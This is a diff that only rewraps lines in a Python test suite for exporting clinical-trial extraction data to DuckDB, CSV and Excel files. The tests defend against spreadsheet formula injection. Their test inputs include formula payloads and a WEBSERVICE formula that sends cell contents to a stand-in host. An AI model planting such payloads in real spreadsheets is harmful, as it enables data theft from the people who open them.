@@ -33,7 +33,8 @@ def run(tmp_path):
     folder = tmp_path / "a run [1]"
     folder.mkdir()
     lines = [
-        SMALL.model_copy(update={"record_id": f"NCT9000000{n}"}).model_dump_json() + "\n"
+        SMALL.model_copy(update={"record_id": f"NCT9000000{n}"}).model_dump_json()
+        + "\n"
         for n in range(1, 4)
     ]
     (folder / "extractions.jsonl").write_text("".join(lines), "utf-8")
@@ -56,7 +57,9 @@ def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
             (rows,) = database.execute(f"SELECT count(*) FROM {table.name}").fetchone()
             assert rows == counts[table.name]
         kinds = dict(
-            database.execute("SELECT column_name, data_type FROM duckdb_columns()").fetchall()
+            database.execute(
+                "SELECT column_name, data_type FROM duckdb_columns()"
+            ).fetchall()
         )
         names = ("value", "criterion_index", "healthy_volunteers")
         assert [kinds[name] for name in names] == ["DOUBLE", "BIGINT", "BOOLEAN"]
@@ -105,7 +108,11 @@ def test_all_formats_hold_the_same(run, tmp_path):
         None,
     )  # it holds for all, and these values have no evidence
     described = json.loads((tmp_path / "csv" / "tables.json").read_text("utf-8"))
-    assert described["constraints"]["keys"] == ["record_id", "criterion_index", "constraint_index"]
+    assert described["constraints"]["keys"] == [
+        "record_id",
+        "criterion_index",
+        "constraint_index",
+    ]
 
 
 def test_a_file_holds_one_table(run, tmp_path):
@@ -116,7 +123,19 @@ def test_a_file_holds_one_table(run, tmp_path):
     assert not (tmp_path / "all.csv").exists()
 
 
-FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", '"=1', "＝1")
+FORMULAS = (
+    "=1+1",
+    "+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "'=1",
+    '"=1',
+    "＝1",
+)
 WITHIN = ("a;=1", "a\n-1", "a,@x", "a\t+1")
 
 
@@ -137,7 +156,16 @@ def test_no_program_reads_a_text_as_a_formula(text):
 
 @pytest.mark.parametrize(
     "text",
-    ["18-65 years", "ECOG 0-2", "> 3 x ULN", "a = b", "day -7, -5 and -3", "IL-2", "", "β-lactam"],
+    [
+        "18-65 years",
+        "ECOG 0-2",
+        "> 3 x ULN",
+        "a = b",
+        "day -7, -5 and -3",
+        "IL-2",
+        "",
+        "β-lactam",
+    ],
 )
 def test_other_texts_do_not_change(text):
     assert neutralise(text) == text
@@ -149,7 +177,9 @@ def test_csv_is_safe_in_a_spreadsheet_and_always_the_same(run, tmp_path):
     # a number stays one
     assert read_csv(tmp_path / "first" / "constraints.csv")[0]["value"] == "-2.5"
     assert read_csv(tmp_path / "first" / "criteria.csv")[0]["quote"] == "'=HYPERLINK(1)"
-    assert read_csv(tmp_path / "first" / "endpoints.csv")[0]["measure"] == "Pain\nat rest"
+    assert (
+        read_csv(tmp_path / "first" / "endpoints.csv")[0]["measure"] == "Pain\nat rest"
+    )
     for path in (tmp_path / "first").iterdir():
         assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes()
 
@@ -204,16 +234,20 @@ def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
     gold = tmp_path / "gold"
     gold.mkdir()
     for number in (2, 1):
-        annotated = SMALL.model_copy(update={"record_id": f"NCT9000000{number}"}).model_dump(
-            mode="json"
+        annotated = SMALL.model_copy(
+            update={"record_id": f"NCT9000000{number}"}
+        ).model_dump(mode="json")
+        (gold / f"NCT9000000{number}.json").write_text(
+            json.dumps(annotated, indent=1), "utf-8"
         )
-        (gold / f"NCT9000000{number}.json").write_text(json.dumps(annotated, indent=1), "utf-8")
     assert export(gold, tmp_path / "t", Format.CSV)["records"] == 2
     assert [row["record_id"] for row in read_csv(tmp_path / "t" / "records.csv")] == [
         "NCT90000001",
         "NCT90000002",
     ]
-    assert export(gold / "NCT90000001.json", tmp_path / "one", Format.CSV)["records"] == 1
+    assert (
+        export(gold / "NCT90000001.json", tmp_path / "one", Format.CSV)["records"] == 1
+    )
     (gold / "NCT90000003.json").write_text("{", "utf-8")
     with pytest.raises(StoreError, match=r"NCT90000003\.json: is broken; correct it"):
         export(gold, tmp_path / "t", Format.CSV, force=True)
@@ -228,14 +262,22 @@ def test_a_workbook_has_a_sheet_for_each_table_and_no_formula(run, tmp_path):
         lines = (tmp_path / "rows" / f"{name}.jsonl").read_text("utf-8").splitlines()
         names, *found = book[name].iter_rows(values_only=True)
         assert len(found) == rows
-        assert [dict(zip(names, row, strict=True)) for row in found] == list(map(json.loads, lines))
-        assert {cell.data_type for row in book[name].iter_rows() for cell in row} <= {"s", "n", "b"}
+        assert [dict(zip(names, row, strict=True)) for row in found] == list(
+            map(json.loads, lines)
+        )
+        assert {cell.data_type for row in book[name].iter_rows() for cell in row} <= {
+            "s",
+            "n",
+            "b",
+        }
 
 
 ARRAYS = ['{=WEBSERVICE("http://a.b/"&A1)}', "{=1+1}", "{=1", "{}", "internal:A1"]
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN, *ARRAYS, "http://a.b", "12", "nan", "TRUE"])
+@pytest.mark.parametrize(
+    "text", [*FORMULAS, *WITHIN, *ARRAYS, "http://a.b", "12", "nan", "TRUE"]
+)
 def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path):
     table = choose_tables([], ["custom_values"])[0]
     (tmp_path / "rows").write_text(
@@ -273,36 +315,52 @@ def oldest_library(tmp_path_factory):
         folder,
         f"xlsxwriter=={oldest}",
     )
-    if subprocess.run([sys.executable, *words], capture_output=True, check=False).returncode:
+    if subprocess.run(
+        [sys.executable, *words], capture_output=True, check=False
+    ).returncode:
         pytest.skip(f"no registry has XlsxWriter {oldest}")
     return folder
 
 
-def test_the_oldest_library_that_is_allowed_writes_no_formula_either(run, tmp_path, oldest_library):
+def test_the_oldest_library_that_is_allowed_writes_no_formula_either(
+    run, tmp_path, oldest_library
+):
     lines = (run / "extractions.jsonl").read_text("utf-8")
     quoted = json.dumps(ARRAYS[0])[1:-1]
-    (run / "extractions.jsonl").write_text(lines.replace("NCT90000001", quoted), "utf-8")
+    (run / "extractions.jsonl").write_text(
+        lines.replace("NCT90000001", quoted), "utf-8"
+    )
     code = (
         "import sys; from pathlib import Path; from extractor.apps.export import Destination, "
         "Format, export_run;"
         "export_run(Path(sys.argv[1]), Destination.choose(Path(sys.argv[2]), Format.XLSX))"
     )
-    path = {"PYTHONPATH": os.pathsep.join(filter(None, [str(oldest_library or ""), *sys.path]))}
+    path = {
+        "PYTHONPATH": os.pathsep.join(
+            filter(None, [str(oldest_library or ""), *sys.path])
+        )
+    }
     subprocess.run(
-        [sys.executable, "-c", code, run, tmp_path / "a.xlsx"], env=os.environ | path, check=True
+        [sys.executable, "-c", code, run, tmp_path / "a.xlsx"],
+        env=os.environ | path,
+        check=True,
     )
 
     book = openpyxl.load_workbook(tmp_path / "a.xlsx")
 
     assert book["records"]["A2"].value == ARRAYS[0]
-    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {
+    assert {
+        cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row
+    } <= {
         "s",
         "n",
         "b",
     }
     with zipfile.ZipFile(tmp_path / "a.xlsx") as parts:
         assert not [
-            name for name in parts.namelist() if "sheets" in name and b"<f" in parts.read(name)
+            name
+            for name in parts.namelist()
+            if "sheets" in name and b"<f" in parts.read(name)
         ]
 
 
@@ -319,9 +377,13 @@ def test_the_library_never_guesses_what_a_cell_is(run, tmp_path, monkeypatch):
 
 def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
     monkeypatch.setattr(excel, "_MOST_ROWS", 6)
-    with pytest.raises(StoreError, match=r"constraints: has more than 5 rows.*--tables"):
+    with pytest.raises(
+        StoreError, match=r"constraints: has more than 5 rows.*--tables"
+    ):
         export(run, tmp_path / "trials.xlsx", tables=choose_tables([], ["constraints"]))
     monkeypatch.setattr(excel, "_LONGEST_TEXT", 5)
-    with pytest.raises(StoreError, match=r"criteria: row 1, record_id: has more than 5 characters"):
+    with pytest.raises(
+        StoreError, match=r"criteria: row 1, record_id: has more than 5 characters"
+    ):
         export(run, tmp_path / "trials.xlsx", tables=choose_tables([], ["criteria"]))
     assert not (tmp_path / "trials.xlsx").exists()
